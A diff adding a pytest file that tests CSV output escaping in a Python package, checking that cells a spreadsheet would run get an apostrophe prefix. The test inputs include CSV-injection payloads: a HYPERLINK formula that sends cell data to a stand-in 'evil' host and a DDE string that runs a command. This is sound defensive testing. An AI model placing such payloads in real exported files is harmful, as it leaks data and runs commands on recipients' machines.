@@ -1,0 +1,53 @@
+"""Writing the outputs: atomic files, CSV safe to open in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pytest
+
+from ips_map.outputs import escape_formula, unescape_formula, write_csv
+
+
+def read_rows(path: Path) -> list[list[str]]:
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil"&A1,"x")',
+        "+1",
+        "@SUM(1)",
+        "-2+3",
+        "-cmd|' /C calc'!A0",
+        "\t=1",
+        "\n=1",
+        "'=1",  # an apostrophe already there is kept: escaping stays reversible
+    ],
+)
+def test_text_that_a_spreadsheet_would_run_is_prefixed(tmp_path, text):
+    path = write_csv(tmp_path / "t.csv", ["nom"], [{"nom": text}])
+    assert read_rows(path)[1] == ["'" + text]
+    assert unescape_formula(escape_formula(text)) == text
+
+
+@pytest.mark.parametrize("value", ["-1.55", "-1,55", "-3", "-1e-05", "Rennes", "", "a=b", 7, -1.5])
+def test_numbers_and_ordinary_text_are_written_as_they_are(tmp_path, value):
+    path = write_csv(tmp_path / "t.csv", ["x"], [{"x": value}])
+    assert read_rows(path)[1] == [str(value)]
+    assert escape_formula(str(value)) == str(value) == unescape_formula(str(value))
+
+
+def test_a_listing_column_named_like_a_formula_is_prefixed(tmp_path):
+    path = write_csv(tmp_path / "t.csv", ["nom", "=1+1"], [{"nom": "a", "=1+1": "b"}])
+    assert read_rows(path) == [["nom", "'=1+1"], ["a", "b"]]
+
+
+def test_a_line_break_inside_a_cell_keeps_the_row_whole(tmp_path):
+    rows = [{"nom": "\r=1", "x": "a\rb"}, {"nom": "c\r\nd", "x": "e"}]
+    path = write_csv(tmp_path / "t.csv", ["nom", "x"], rows)
+    assert read_rows(path) == [["nom", "x"], ["'\n=1", "a\nb"], ["c\nd", "e"]]
+    assert unescape_formula("'\n=1") == "\n=1"
